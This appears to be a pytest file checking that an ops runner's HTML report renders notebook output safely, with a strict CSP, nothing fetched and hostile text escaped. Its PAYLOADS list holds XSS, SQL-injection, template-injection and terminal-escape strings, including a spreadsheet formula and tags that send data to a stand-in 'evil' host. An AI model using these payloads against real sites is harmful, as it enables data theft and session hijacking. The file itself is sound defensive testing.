"""The page: verdict first, nothing fetched, nothing run, hostile text shown as text."""

import json
import re
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from opslib.runner import cleaning, records, report
from opslib.runner.harmless import harmless

from .probe import code, markdown, notebook, summary_in

CSP = "default-src 'none'; img-src data:; style-src 'unsafe-inline'"
PAYLOADS = [
    "<img src=x onerror=alert(1)>", "</script><script>alert(1)</script>", 'https://a/?"><script>x</script>',
    "javascript:alert(1)", "\x1b[31mred", "\x1b]0;x\x07", "\u202eabc", "a\x00b", "lone \udc80", '=HYPERLINK("http://evil/?"&A1,"x")',
    "'; DROP TABLE users;--", 'x" or 1=1 | fields @message | limit 10000 # ', "<svg onload=alert(1)>", "<iframe src=//evil>",
    "<details open ontoggle=alert(1)>", "<style>*{background:url(http://evil/)}</style>", "[x](javascript:alert(1))",
    "<form action=http://evil><input></form>", "<a href='data:text/html,<script>x</script>'>y</a>", "<meta http-equiv=refresh content=0;url=//evil>",
    "{{ 7*7 }}{% include 'x' %}", "<base href=http://evil>", "<link rel=stylesheet href=http://evil>", "$\\href{javascript:alert(1)}{x}$",
]  # fmt: skip


class Page(HTMLParser):
    """What a browser would obey in a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []
        self.words: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    def handle_data(self, data: str) -> None:
        self.words.append(data)


def assert_obeys_nothing(text: str) -> Page:
    page = Page(text)
    assert not {"script", "iframe", "object", "embed", "form", "input", "base", "link", "svg", "math"} & set(page.tags)
    assert not [name for name, _ in page.attributes if name.startswith("on")]
    for name, value in page.attributes:
        if name in {"src", "srcset"}:
            assert value.startswith("data:image/")
        if name == "href":
            assert re.match(r"https?://|mailto:|#", value)
        if name == "style":
            assert "url(" not in value
    return page


def output(kind: str, text: Any) -> dict[str, Any]:
    return {"output_type": "display_data", "metadata": {}, "data": {kind: text, "text/plain": "fallback"}}


def drawn(record: Path, *cells: dict[str, Any], **changes: Any) -> str:
    return report.html(cleaning.clean_notebook(notebook(*cells)), cleaning.clean({**summary_in(record), **changes}))


def test_the_page_of_a_record(record: Path) -> None:
    text = (record / records.PAGE).read_text()
    page = assert_obeys_nothing(text)
    assert f'content="{CSP}"' in text.replace("&#39;", "'") and "http://" not in text and "https://" not in text
    words = "".join(page.words).partition("@media print")[2]  # after title and style
    assert (
        words.index("Probe")
        < words.index("SANDBOX")
        < words.index("verdict card: critical")
        < words.index("about this runbook")
    )
    assert words.index("about this runbook") < words.index("parameters: act=flood") < words.index("What happens next?")
    assert words.index("What happens next?") < words.index(f"opslib replay {summary_in(record)['run_id']}")
    assert "logs:StartQuery 2" in words and "012345678901" in words


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_shown_not_obeyed(record: Path, payload: str) -> None:
    cell = code("x", "verdict")
    cell["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": payload}, output("text/plain", payload), output("text/html", payload),
        output("text/markdown", payload), output("application/javascript", payload), output("image/svg+xml", f"<svg>{payload}</svg>"),
        output("text/latex", payload), {"output_type": "error", "ename": payload, "evalue": payload, "traceback": [payload]},
    ]  # fmt: skip
    hostile = {
        "parameters": {payload: payload},
        "error": payload,
        "operator": payload,
        "status": "failed",
        "commit": payload,
    }
    text = drawn(record, markdown(f"# {payload}\n\n{payload}"), markdown(payload), cell, code(payload), **hostile)
    assert_obeys_nothing(text)
    assert CSP in text.replace("&#39;", "'")


def test_a_script_stays_readable(record: Path) -> None:
    page = Page(drawn(record, markdown("# T\n\n<script>alert(1)</script>"), code("1")))
    assert "<script>alert(1)</script>" in "".join(page.words)


def test_our_own_markup_survives() -> None:
    mine = (
        '<div class="tex2jax_ignore" style="display:grid;grid-template-columns:repeat(auto-fit,minmax(118px,1fr))">'
        '<picture><source media="(max-width:40rem)" srcset="data:image/svg+xml;base64,AAAA">'
        '<img src="data:image/svg+xml;base64,BBBB" alt="a &lt; b" style="width:100%"></picture>'
        "<details><summary>from where</summary><pre>select $1 &lt; $2</pre></details></div>"
    )
    assert harmless(mine) == mine


def test_each_image_says_what_it_is_to_those_who_do_not_see_it(record: Path) -> None:
    cell = code("x")
    cell["outputs"] = [
        output("image/png", "AAAA"), output("image/svg+xml", "<svg></svg>"),
        output("text/html", '<img src="data:image/png;base64,BBBB"><img title="a > b" alt="c" src="data:image/png;base64,CCCC">'),
    ]  # fmt: skip
    text = drawn(record, markdown("# T"), cell)
    assert re.findall(' alt="([^"]*)"', text) == [*["no description was given for this image"] * 3, "c"]


def test_links_that_people_follow_stay() -> None:
    link = '<a href="https://console.example/logs?a=1&amp;b=2">logs</a>'
    assert harmless(link) == link


def test_an_unfinished_run_says_so_first(record: Path) -> None:
    from opslib.runner import cells

    book = notebook(markdown("# T"), code("1/0"))
    cells.mark(book["cells"][1], "not_run")
    cells.put_banner(book, "killed", "<b>x</b> costs $1 and $2", [{"status": "not_run"}])
    words = "".join(Page(drawn(record, *book["cells"], status="killed")).words)
    assert words.index("THIS RUN DID NOT FINISH") < words.index("did not run") and "<b>x</b> costs $1 and $2" in words


def test_what_a_change_printed_on_its_way_is_folded_under_its_answer(record: Path) -> None:
    steps = [{"output_type": "stream", "name": "stdout", "text": f"step {number} of 2: <b>\n"} for number in (1, 2)]
    cell = code("answer", "verdict")
    cell["outputs"] = [steps[0], steps[1], output("text/html", "<p>done and seen</p>")]
    text = drawn(record, markdown("# T"), cell)
    told = text.partition("how it went")[2].partition("</details>")[0]
    assert text.index("done and seen") < text.index("how it went") and told.count("<pre>") == 1
    assert "step 1 of 2: &lt;b&gt;\nstep 2 of 2" in told
    cell["outputs"] = steps  # it was ended in the middle: what it printed is all that is known
    assert "how it went" not in drawn(record, markdown("# T"), cell) and "step 2 of 2" in drawn(record, markdown("# T"), cell)  # fmt: skip
    words = markdown("in words") | {"metadata": {"tags": ["verdict"]}}  # of somebody's own runbook
    assert "in words" in drawn(record, markdown("# T"), words)


def test_data_uris_cannot_be_swapped() -> None:
    text = '<img src="data:image/png;base64,000000000000"> data:image/png;base64,000000000001'
    assert harmless(text) == text


def test_the_summary_is_plain_json(record: Path) -> None:
    assert json.loads((record / records.SUMMARY).read_text())["schema"] == 1
